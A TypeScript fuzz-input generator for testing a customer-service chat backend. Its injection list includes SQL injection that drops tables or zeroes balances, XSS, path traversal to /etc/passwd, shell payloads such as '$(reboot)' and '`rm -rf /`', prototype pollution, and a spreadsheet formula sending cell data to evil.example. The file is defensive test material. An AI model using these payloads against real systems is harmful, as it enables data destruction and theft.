// Seeded inputs for the fault benchmark: random and hostile text, malformed bodies, wrong types, bogus
// button values, card numbers and PINs typed into messages, and the realistic lines customers send.

/** mulberry32: small, fast and reproducible from one 32-bit seed. */
export class Prng {
  private state: number;
  constructor(seed: number) {
    this.state = seed >>> 0;
  }
  next(): number {
    this.state = (this.state + 0x6d2b79f5) >>> 0;
    let t = this.state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  }
  int(maxExclusive: number): number {
    return Math.floor(this.next() * maxExclusive);
  }
  range(min: number, maxInclusive: number): number {
    return min + this.int(maxInclusive - min + 1);
  }
  chance(p: number): boolean {
    return this.next() < p;
  }
  pick<T>(items: readonly T[]): T {
    if (items.length === 0) throw new Error('pick from nothing');
    return items[this.int(items.length)] as T;
  }
  /** Picks a key with probability proportional to its weight. */
  weighted<K extends string>(weights: Readonly<Record<K, number>>): K {
    const entries = Object.entries(weights) as [K, number][];
    const total = entries.reduce((sum, [, w]) => sum + w, 0);
    let roll = this.next() * total;
    for (const [key, weight] of entries) {
      roll -= weight;
      if (roll < 0) return key;
    }
    return entries[entries.length - 1]![0];
  }
  /** A new generator whose sequence depends on this one's seed and the label only. */
  fork(label: string): Prng {
    let h = this.state ^ 0x9e3779b9;
    for (let i = 0; i < label.length; i++) h = Math.imul(h ^ label.charCodeAt(i), 0x01000193) >>> 0;
    return new Prng(h);
  }
}

/** Lines a real customer types: none of them starts a write or confirms one. */
export const REALISTIC_LINES = [
  "what's my balance",
  'how much do we owe?',
  'show my open tickets',
  'any outages in Toronto?',
  'is there an outage in montreal right now',
  'hi',
  'hello there',
  'thanks',
  'when is my bill due',
  'show me the latest invoice',
  'send me my latest invoice as PDF',
  'what services do we have',
  'any maintenance planned this week?',
  'who are the contacts on 5000001?',
  'what is the status of TT-103026?',
  'and last month?',
  'what about montreal',
  'list the portal users',
  'what can you do',
  'wats my balanse',
  'invioce for octobr',
  'what is the weather in Paris tomorrow?',
  'can you book me a flight to Vancouver',
  'tell me a joke',
  'quel est mon solde',
  'THIS IS THE THIRD TIME I ASK!!! nothing works',
  'talk to a person',
  'long distance summary for last month',
  'show usage for 5000003',
  'how many accounts do we have',
] as const;

/** Out-of-scope lines, for the load mix. */
export const OUT_OF_SCOPE_LINES = [
  'what is the weather in Paris tomorrow?',
  'can you book me a flight to Vancouver',
  'who won the hockey game last night',
  'recommend a good pizza place downtown',
] as const;

/** Luhn-valid test card numbers, typed as customers type them. */
export const TEST_CARDS = [
  '4111 1111 1111 1111',
  '5500-0000-0000-0004',
  '378282246310005',
  '6011000990139424',
  '4012888888881881',
];

const INJECTIONS = [
  "' OR '1'='1",
  "'; DROP TABLE accounts; --",
  "5000001' UNION SELECT pin_hash, 1 FROM accounts --",
  "Robert'); DROP TABLE payments;--",
  '1; DELETE FROM tickets WHERE 1=1',
  "pay $10 on 5000001'; UPDATE accounts SET balance_cents = 0; --",
  '" OR ""="',
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '[click me](javascript:alert(1))',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection probe, sent as plain text
  '{{7*7}} ${7*7} <%= 7*7 %> #{7*7}',
  '%s%s%s%s%n%x',
  '../../../../etc/passwd',
  '..%2F..%2F..%2Fetc%2Fpasswd',
  '$(reboot)',
  '`rm -rf /`',
  '*)(uid=*))(|(uid=*',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+1+1@SUM(1,1)',
  '{"action":"confirm:AAAAAAAAAAAA"}',
  'intent:make_payment',
  'confirm:AAAAAAAAAAAA',
  '__proto__',
  'constructor',
  '{"__proto__":{"isAdmin":true}}',
  'TT-103026; DROP TABLE tickets',
  'escalate TT-1030260000000000000000000 to critical',
  '\\u0000\\x00\\0',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1e308',
  '0x7fffffff',
];

/** Money, dates and numbers at and past their edges, in otherwise plausible requests (none confirmed). */
const EDGE_REQUESTS = [
  'pay $-5 on 5000001',
  'pay $0.001',
  'pay $99999999999999999999999',
  'pay $1e9 tomorrow',
  'pay $NaN',
  'pay 10 dollars on february 30',
  'pay $10 on 31/02/2026',
  'long distance summary from 0000-01-01 to 9999-12-31',
  'report for 9999-99-99',
  'usage for the last 999999 months',
  'invoice for 1899',
  'balance of account 99999999999999999999',
  'balance of account 0',
  'what is the status of TT-000000',
  'escalate TT-999999 to critical because nothing works for days',
];

/** Random code points across the planes that break naive handling: combining marks, RTL, emoji, CJK, private use. */
const UNICODE_POOLS: readonly (readonly [number, number])[] = [
  [0x20, 0x7e],
  [0xa0, 0xff],
  [0x100, 0x17f],
  [0x300, 0x36f], // combining marks
  [0x590, 0x5ff], // Hebrew (RTL)
  [0x600, 0x6ff], // Arabic
  [0x200b, 0x200f], // zero-width and direction marks
  [0x202a, 0x202e], // embedding and override
  [0x2060, 0x2064],
  [0x4e00, 0x4fff], // CJK
  [0xac00, 0xacff], // Hangul
  [0xe000, 0xe0ff], // private use
  [0xfe00, 0xfe0f], // variation selectors
  [0xfeff, 0xfeff], // BOM
  [0xfff0, 0xffff], // specials, noncharacters
  [0x1f300, 0x1f6ff], // emoji (surrogate pairs)
  [0x1f900, 0x1f9ff],
  [0xe0000, 0xe007f], // tags
  [0x10fff0, 0x10ffff],
];

export function randomUnicode(rng: Prng, length: number): string {
  let out = '';
  for (let i = 0; i < length; i++) {
    const [lo, hi] = rng.pick(UNICODE_POOLS);
    out += String.fromCodePoint(rng.range(lo, hi));
  }
  return out;
}

export function controlCharacters(rng: Prng, length: number): string {
  let out = '';
  for (let i = 0; i < length; i++) {
    const roll = rng.int(6);
    if (roll === 0) out += '\u0000';
    else if (roll === 1) out += String.fromCharCode(rng.range(1, 31));
    else if (roll === 2) out += '\u007f';
    else if (roll === 3) out += String.fromCharCode(rng.range(0x80, 0x9f));
    else if (roll === 4) out += rng.pick(['\u2028', '\u2029', '\r\n', '\t', '\u001b[2J', '\u001b]0;title\u0007']);
    else out += rng.pick(['balance', ' ', 'pay', 'TT-103026', '5000001', 'hello']);
  }
  return out;
}

/** Strings with unpaired UTF-16 surrogates (JSON.stringify escapes them as \udXXX). */
export function loneSurrogates(rng: Prng): string {
  const high = String.fromCharCode(rng.range(0xd800, 0xdbff));
  const low = String.fromCharCode(rng.range(0xdc00, 0xdfff));
  return rng.pick([
    high,
    low,
    `balance ${high}`,
    `${low}${high}`,
    `😀${high}😀`,
    `pay $5 ${low}`,
    `${high}`.repeat(rng.range(1, 50)),
  ]);
}

/** Sizes around the 4 KB message limit, in one-, two-, three- and four-byte characters. */
export function oversizedText(rng: Prng): string {
  const unit = rng.pick(['a', 'é', '€', '😀', ' ', '1', 'balance ']);
  const bytes = Buffer.byteLength(unit, 'utf8');
  const target = rng.pick([4095, 4096, 4097, 4100, 8192, 12_000, 15_000]);
  return unit.repeat(Math.max(1, Math.floor(target / bytes)));
}

/** Inputs that make regular expressions and parsers work hard (each under the 4 KB limit). */
export function pathological(rng: Prng): string {
  return rng.pick([
    'a'.repeat(4000),
    `${'1'.repeat(3990)}!`,
    `$${'9'.repeat(4000)}`,
    `pay $${'9'.repeat(300)}.${'9'.repeat(300)}`,
    ' '.repeat(4000),
    `TT-${'0'.repeat(3000)}`,
    `${'a.'.repeat(1500)}@${'b.'.repeat(400)}com`,
    `${'aaaa@'.repeat(800)}`,
    `${'5000001 '.repeat(500)}`,
    `${'4111 '.repeat(800)}`,
    `${'(('.repeat(1000)}`,
    `${'-'.repeat(4000)}`,
    `${'pay $10 '.repeat(500)}`,
    `${'on friday '.repeat(400)}`,
    `${'\n'.repeat(4000)}`,
    `${'Ç'.repeat(2000)}`,
    `${'é'.repeat(2048)}`,
    `${'😀'.repeat(1024)}`,
  ]);
}

/** A Luhn-valid digit string of the given length (a made-up card number). */
export function luhnNumber(rng: Prng, length: number): string {
  const digits = [rng.pick([3, 4, 5, 6])];
  while (digits.length < length - 1) digits.push(rng.int(10));
  let sum = 0;
  for (let i = digits.length - 1, double = true; i >= 0; i--, double = !double) {
    let d = digits[i] as number;
    if (double) {
      d *= 2;
      if (d > 9) d -= 9;
    }
    sum += d;
  }
  digits.push((10 - (sum % 10)) % 10);
  return digits.join('');
}

/** A card number, expiry, security code or PIN typed into a chat message (the product must mask them). */
export function sensitiveText(rng: Prng, pins: readonly string[]): { text: string; card?: string; pin?: string } {
  const card = rng.chance(0.5) ? rng.pick(TEST_CARDS) : luhnNumber(rng, rng.range(13, 19));
  const pin = rng.pick(pins);
  switch (rng.int(6)) {
    case 0:
      return { text: `my card is ${card} exp 12/29 cvv ${rng.range(100, 999)}`, card };
    case 1:
      return { text: `pay $20 with card ${card}`, card };
    case 2:
      return { text: `${card}`, card };
    case 3:
      return { text: `my pin is ${pin}`, pin };
    case 4:
      return { text: `account 5000001 pin ${pin}, card ${card} 03/28 ${rng.range(1000, 9999)}`, card, pin };
    default:
      return {
        text: `please charge ${card
          .replace(/\D/g, '')
          .replace(/(\d{4})/g, '$1 ')
          .trim()} for the balance`,
        card,
      };
  }
}

export type TextKind =
  | 'unicode'
  | 'control'
  | 'surrogate'
  | 'oversized'
  | 'pathological'
  | 'injection'
  | 'edge'
  | 'sensitive'
  | 'realistic'
  | 'empty';

/** One message text of a random kind (never a write request, never "yes"). */
export function fuzzText(
  rng: Prng,
  pins: readonly string[],
): { kind: TextKind; text: string; card?: string; pin?: string } {
  const kind = rng.weighted<TextKind>({
    unicode: 14,
    control: 10,
    surrogate: 6,
    oversized: 5,
    pathological: 6,
    injection: 14,
    edge: 6,
    sensitive: 8,
    realistic: 28,
    empty: 3,
  });
  switch (kind) {
    case 'unicode':
      return { kind, text: randomUnicode(rng, rng.range(1, rng.chance(0.1) ? 1300 : 80)) };
    case 'control':
      return { kind, text: controlCharacters(rng, rng.range(1, 40)) };
    case 'surrogate':
      return { kind, text: loneSurrogates(rng) };
    case 'oversized':
      return { kind, text: oversizedText(rng) };
    case 'pathological':
      return { kind, text: pathological(rng) };
    case 'injection':
      return {
        kind,
        text: rng.chance(0.3) ? `${rng.pick(REALISTIC_LINES)} ${rng.pick(INJECTIONS)}` : rng.pick(INJECTIONS),
      };
    case 'edge':
      return { kind, text: rng.pick(EDGE_REQUESTS) };
    case 'sensitive':
      return { kind, ...sensitiveText(rng, pins) };
    case 'realistic':
      return { kind, text: rng.pick(REALISTIC_LINES) };
    case 'empty':
      return { kind, text: rng.pick(['', ' ', '\n', '\u200b', '\u0000']) };
  }
}

/** Button values no reply offered: forged confirmations, unknown intents, slots with odd values. */
export function bogusAction(rng: Prng, seenConfirmIds: readonly string[]): string {
  const id = () =>
    Array.from({ length: 12 }, () =>
      rng.pick([...'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-']),
    ).join('');
  const options = [
    'confirm:',
    `confirm:${id()}`,
    `confirm:${id()}${id()}`,
    `cancel:${id()}`,
    'slot:',
    'slot::',
    'slot:account:9999999',
    'slot:account:5000001',
    'slot:amount:-100',
    'slot:amount:1e400',
    `slot:preferredContact:${rng.pick(INJECTIONS)}`,
    `slot:${'x'.repeat(300)}:y`,
    'intent:',
    'intent:__proto__',
    'intent:constructor',
    'intent:make_payment:abc',
    'intent:make_payment',
    'intent:ticket_create',
    'intent:balance:5000001',
    'intent:balance:1002345',
    'intent:report:long-distance-summary',
    'intent:human_agent',
    'resume',
    'restart',
    'sign_in',
    `intent:${randomUnicode(rng, 10)}`,
    'x'.repeat(512),
    'x'.repeat(513),
    randomUnicode(rng, rng.range(1, 60)),
    controlCharacters(rng, 10),
    loneSurrogates(rng),
  ];
  // Another conversation's real confirmation: must never carry out a write here.
  if (seenConfirmIds.length > 0 && rng.chance(0.25)) return `confirm:${rng.pick(seenConfirmIds)}`;
  return rng.pick(options);
}

/** A JSON value of an unexpected type. */
export function wrongType(rng: Prng): unknown {
  return rng.pick<unknown>([
    null,
    true,
    0,
    -1,
    1e308,
    [],
    ['balance'],
    {},
    { text: 'nested' },
    '',
    Number.MAX_SAFE_INTEGER,
    [[[[[]]]]],
    { __proto__: { polluted: true } },
  ]);
}

/** Bodies for POST /chat/messages that are not the JSON it expects (as raw strings or bytes). */
export function malformedBody(rng: Prng): { body: string | Uint8Array; contentType?: string; label: string } {
  const cases: (() => { body: string | Uint8Array; contentType?: string; label: string })[] = [
    () => ({ body: '{"text": "hello"', label: 'truncated JSON' }),
    () => ({ body: '{"text": "hello",}', label: 'trailing comma' }),
    () => ({ body: "{'text': 'hello'}", label: 'single quotes' }),
    () => ({ body: '{"text": NaN}', label: 'NaN' }),
    () => ({ body: '{"text": "a", "text": "b"}', label: 'duplicate key' }),
    () => ({ body: '{"text": "\\ud800"}', label: 'escaped lone surrogate' }),
    () => ({ body: '{"text": "\\u0000"}', label: 'escaped NUL' }),
    () => ({ body: '{"__proto__": {"text": "x"}, "text": "balance"}', label: '__proto__ key' }),
    () => ({ body: '{"constructor": {"prototype": {"x": 1}}}', label: 'constructor key' }),
    () => ({ body: '\ufeff{"text": "balance"}', label: 'BOM before JSON' }),
    () => ({ body: 'null', label: 'null' }),
    () => ({ body: '[]', label: 'array' }),
    () => ({ body: '"text"', label: 'string' }),
    () => ({ body: '1e999', label: 'huge number' }),
    () => ({ body: `${'['.repeat(5000)}${']'.repeat(5000)}`, label: 'deep nesting' }),
    () => ({ body: `{"text": ${'{"a":'.repeat(1000)}1${'}'.repeat(1000)}}`, label: 'deep object' }),
    () => ({ body: '', label: 'empty body' }),
    () => ({ body: 'text=hello', contentType: 'application/x-www-form-urlencoded', label: 'form body' }),
    () => ({ body: '{"text": "hello"}', contentType: 'text/plain', label: 'JSON as text/plain' }),
    () => ({ body: '{"text": "hello"}', contentType: 'application/json; charset=utf-16', label: 'charset lie' }),
    () => ({
      body: new Uint8Array([
        0x7b, 0x22, 0x74, 0x65, 0x78, 0x74, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0xc0, 0xaf, 0xed, 0xa0, 0x80, 0x22, 0x7d,
      ]),
      label: 'invalid UTF-8 inside a string',
    }),
    () => ({ body: Buffer.from('{"text": "balance"}', 'utf16le'), label: 'UTF-16 body' }),
    () => ({
      body: new Uint8Array(rng.range(1, 4000)).map(() => rng.int(256)),
      contentType: 'application/octet-stream',
      label: 'random bytes',
    }),
    () => ({ body: `{"text": "${'a'.repeat(16 * 1024)}"}`, label: 'body just over 16 KB' }),
    () => ({ body: `{"text": "${'a'.repeat(1024 * 1024)}"}`, label: '1 MB body' }),
    () => ({ body: `{"text": "${'€'.repeat(5461)}"}`, label: '16 KB of three-byte characters' }),
    () => ({ body: JSON.stringify({ text: 'balance', action: 'intent:balance' }), label: 'text and action' }),
    () => ({ body: JSON.stringify({}), label: 'neither text nor action' }),
    () => ({ body: JSON.stringify({ text: 'balance', extra: 1 }), label: 'unknown field' }),
    () => ({ body: JSON.stringify({ text: wrongType(rng) }), label: 'text of the wrong type' }),
    () => ({ body: JSON.stringify({ action: wrongType(rng) }), label: 'action of the wrong type' }),
    () => ({
      body: JSON.stringify({ text: 'balance', timeZone: wrongType(rng) }),
      label: 'timeZone of the wrong type',
    }),
    () => ({
      body: JSON.stringify({
        text: 'what is my bill for last month',
        timeZone: rng.pick([
          'Mars/Olympus',
          '../../etc/passwd',
          'Etc/GMT+99',
          'America/Toronto\u0000',
          'UTC'.repeat(21),
          '+25:00',
          'local',
          ' ',
        ]),
      }),
      label: 'odd timeZone',
    }),
  ];
  return rng.pick(cases)();
}
